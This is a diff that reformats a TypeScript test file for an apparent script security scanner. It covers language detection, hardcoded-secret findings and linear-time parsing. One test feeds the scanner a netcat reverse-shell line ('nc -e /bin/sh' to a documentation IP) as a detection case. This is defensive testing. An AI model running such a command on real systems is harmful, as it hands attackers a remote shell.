@@ -12,23 +12,45 @@ test.each(good)('%s (%s) is nothing', (_name, language, text) => {
 });
 
 test.each([
-  ['a.sh', undefined, 'shell'], ['a', '/usr/bin/env bash', 'shell'], ['a', '#!/usr/bin/env -S node --no-warnings', 'javascript'], ['a.txt', '/usr/bin/python3.12', 'python'],
-  ['x.mts', undefined, 'javascript'], ['x.rb', undefined, 'ruby'], ['x.php', 'php8.3', 'php'], ['README.md', undefined, undefined], ['script', '-bash', undefined], ['a.pl', '#! /usr/bin/perl -w', 'perl'],
+  ['a.sh', undefined, 'shell'],
+  ['a', '/usr/bin/env bash', 'shell'],
+  ['a', '#!/usr/bin/env -S node --no-warnings', 'javascript'],
+  ['a.txt', '/usr/bin/python3.12', 'python'],
+  ['x.mts', undefined, 'javascript'],
+  ['x.rb', undefined, 'ruby'],
+  ['x.php', 'php8.3', 'php'],
+  ['README.md', undefined, undefined],
+  ['script', '-bash', undefined],
+  ['a.pl', '#! /usr/bin/perl -w', 'perl'],
 ] as const)('%s with %s is %s', (path, interpreter, want) => {
   expect(languageOf(path, interpreter)).toBe(want);
 });
 
 test('a finding has its place, and no secret', () => {
   const text = 'set -e\n  TOKEN=abcdef\n';
-  const [found] = inspectScript({ path: 'deploy.sh', text, language: 'shell', secrets: () => [{ rule: 'some-token', start: 15, end: 21 }] });
+  const [found] = inspectScript({
+    path: 'deploy.sh',
+    text,
+    language: 'shell',
+    secrets: () => [{ rule: 'some-token', start: 15, end: 21 }],
+  });
   expect(found).toEqual({
-    rule: 'SC-01', cwe: 'CWE-798', severity: 'high', confidence: 'high', message: 'A secret stands in the script in the clear. (some-token)',
-    place: { path: 'deploy.sh', line: 2, column: 9 }, excerpt: 'TOKEN=[some-token]',
+    rule: 'SC-01',
+    cwe: 'CWE-798',
+    severity: 'high',
+    confidence: 'high',
+    message: 'A secret stands in the script in the clear. (some-token)',
+    place: { path: 'deploy.sh', line: 2, column: 9 },
+    excerpt: 'TOKEN=[some-token]',
   });
 });
 
 test('a line is named, and one finding stands for it', () => {
-  const found = inspectScript({ path: 'x', language: 'shell', text: '#!/bin/sh\n\nnc -e /bin/sh 192.0.2.1 1; nc -e /bin/sh 192.0.2.1 2\n' });
+  const found = inspectScript({
+    path: 'x',
+    language: 'shell',
+    text: '#!/bin/sh\n\nnc -e /bin/sh 192.0.2.1 1; nc -e /bin/sh 192.0.2.1 2\n',
+  });
   expect(found.map((each) => [each.rule, each.place.line, each.place.column])).toEqual([['SC-02', 3, 1]]);
 });
 
@@ -38,16 +60,56 @@ test('what nests too deeply is reported, not passed over', () => {
 
 const SIZE = 128 * 1024;
 const storms: readonly (readonly [string, string])[] = [
-  ['quotes', "'"], ['double quotes', '"'], ['escaped quotes', "\\'"], ['substitutions', '$('], ['closed substitutions', '$()'], ['backquotes', '`'], ['brackets', '('], ['braces', '{ '], ['tests', '[[ '], ['arithmetic', '(('], ['arithmetic substitutions', '$(('],
-  ['assignments', 'a=b '], ['chained assignments', 'a='], ['here-documents', '<<A '], ['heredoc lines', '<<A\n'], ['pipes', 'a|'], ['calls', 'exec('], ['calls closed', 'eval(a);'], ['slashes', '=/'], ['regex classes', '=/['], ['comments', '/*'], ['triple quotes', '"""'], ['perl quotes', 'q('], ['dots', 'a.'],
-  ['imports', 'import a as b,'], ['destructuring', 'const {'], ['arrows', 'x=>'], ['loops', 'for a in '], ['processes', 'system("a");'], ['redirects', '>&'], ['processes in shell', "sh -c 'a';"], ['evals', 'eval a;'], ['open strings', '"a\n'], ['commas', 'a,'], ['pods', '\n=a'], ['fetches', 'curl a|'], ['downloads', 'curl -o a b;'], ['template', '`${a}'], ['with as', 'open("a") as b\n'],
+  ['quotes', "'"],
+  ['double quotes', '"'],
+  ['escaped quotes', "\\'"],
+  ['substitutions', '$('],
+  ['closed substitutions', '$()'],
+  ['backquotes', '`'],
+  ['brackets', '('],
+  ['braces', '{ '],
+  ['tests', '[[ '],
+  ['arithmetic', '(('],
+  ['arithmetic substitutions', '$(('],
+  ['assignments', 'a=b '],
+  ['chained assignments', 'a='],
+  ['here-documents', '<<A '],
+  ['heredoc lines', '<<A\n'],
+  ['pipes', 'a|'],
+  ['calls', 'exec('],
+  ['calls closed', 'eval(a);'],
+  ['slashes', '=/'],
+  ['regex classes', '=/['],
+  ['comments', '/*'],
+  ['triple quotes', '"""'],
+  ['perl quotes', 'q('],
+  ['dots', 'a.'],
+  ['imports', 'import a as b,'],
+  ['destructuring', 'const {'],
+  ['arrows', 'x=>'],
+  ['loops', 'for a in '],
+  ['processes', 'system("a");'],
+  ['redirects', '>&'],
+  ['processes in shell', "sh -c 'a';"],
+  ['evals', 'eval a;'],
+  ['open strings', '"a\n'],
+  ['commas', 'a,'],
+  ['pods', '\n=a'],
+  ['fetches', 'curl a|'],
+  ['downloads', 'curl -o a b;'],
+  ['template', '`${a}'],
+  ['with as', 'open("a") as b\n'],
 ];
 const languages = ['shell', 'python', 'javascript', 'perl', 'ruby', 'php', 'powershell'] as const;
-test.each(storms)('128 KiB of %s are read in linear time', (_name, unit) => {
-  for (const language of languages) {
-    const text = (language === 'php' ? '<?php ' : '') + unit.repeat(Math.ceil(SIZE / unit.length));
-    const before = performance.now();
-    inspectScript({ path: 'x', text, language });
-    expect(performance.now() - before, language).toBeLessThan(3000);
-  }
-}, 120_000);
+test.each(storms)(
+  '128 KiB of %s are read in linear time',
+  (_name, unit) => {
+    for (const language of languages) {
+      const text = (language === 'php' ? '<?php ' : '') + unit.repeat(Math.ceil(SIZE / unit.length));
+      const before = performance.now();
+      inspectScript({ path: 'x', text, language });
+      expect(performance.now() - before, language).toBeLessThan(3000);
+    }
+  },
+  120_000,
+);
